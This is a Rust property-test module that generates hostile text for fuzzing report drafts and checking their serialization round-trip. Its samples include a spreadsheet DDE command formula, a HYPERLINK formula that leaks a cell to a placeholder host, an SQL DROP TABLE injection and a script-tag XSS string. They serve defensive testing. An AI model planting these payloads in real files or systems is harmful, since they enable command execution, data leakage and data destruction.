//! Text that means something to whatever it is written into.

use proptest::prelude::*;

use super::quantity::written;
use super::{altered, draft, filled_in_partly, published};
use crate::draft::{Cell, Draft, Notice, NoticeKind, Origin, Run, Source};
use crate::quantity::Number;

/// Text that means something to spreadsheets, to databases or to the formats themselves: formulas, quotes, separators, tags,
/// control characters, line ends; and any other short text, or none.
pub fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        written("[=+@'\\-\t\r\n\",;？（＝－＠\u{feff}a0 \u{0}]{0,5}"),
        Just("=cmd|' /C calc'!A0".to_owned()),
        Just("=HYPERLINK(\"http://a.example/\"&A1,\"x\")".to_owned()),
        Just("'); DROP TABLE reports; --\\".to_owned()),
        Just("</td><script>alert(1)</script>${x}".to_owned()),
        Just("\r\n".to_owned()),
        written(".{0,8}"),
    ]
}

/// An [`altered`] report (twice as likely) or a [`draft`] of anything, with a [`hostile_text`] wherever a draft holds text: the
/// organ, the sections, a note, a dash, what can't be read, a run (not in the order of the form), labels and notices.
pub fn hostile() -> impl Strategy<Value = Draft> {
    (prop_oneof![2 => altered().boxed(), 1 => draft().boxed()], prop::collection::vec(hostile_text(), 10))
        .prop_filter_map("cells that the form has", |(draft, texts)| infested(draft, texts))
}

fn infested(mut draft: Draft, texts: Vec<String>) -> Option<Draft> {
    let [organ, overview, problems, other, note, dash, unreadable, run, official, notice] =
        <[String; 10]>::try_from(texts).ok()?;
    draft.header.organ = Some(organ);
    [draft.narrative.overview, draft.narrative.problems, draft.narrative.other] = [overview, problems, other];
    let cells = draft.edition().cells();
    draft.set(cells[3], Cell::from(Number::from(-8)).with_note(note)).ok()?;
    draft.set(cells[4], Cell::dash(dash)).ok()?;
    draft.set(cells[5], Cell::unreadable(unreadable).with_origin(Origin::Read)).ok()?;
    let readings = [[1, 23], [12, 3]].map(|reading| reading.map(Number::from).to_vec()).to_vec();
    // Not in the form's order.
    draft.add_run(Run::new(vec![cells[9], cells[7]], readings, run)?).ok()?;
    let kind = NoticeKind::Label { row: cells[0].row(), official: official.into() };
    draft.add_notice(Notice::new(kind, notice.clone(), Source::default()));
    draft.add_notice(Notice::new(NoticeKind::Section { number: 255, absent: true }, notice, Source::default()));
    Some(draft)
}

/// Whatever a draft can hold: what a format that carries all of it is to bring back, and what no program is to panic at.
///
/// An [`altered`] report, a [`draft`] in which anything stands anywhere, a [`published`] and a [`hostile`] one, each
/// in two of nine cases, and in one a form [`filled_in_partly`].
///
/// ```
/// use disclosure_report::{Draft, json, strategies};
/// use proptest::prelude::*;
///
/// proptest!(ProptestConfig::with_cases(16), |(draft in strategies::any_draft())| {
///     prop_assert_eq!(json::from_str::<Draft>(&json::to_string(&draft))?, draft);
/// });
/// ```
pub fn any_draft() -> impl Strategy<Value = Draft> {
    prop_oneof![
        2 => published().boxed(),
        2 => altered().boxed(),
        1 => filled_in_partly().boxed(),
        2 => draft().boxed(),
        2 => hostile().boxed(),
    ]
}
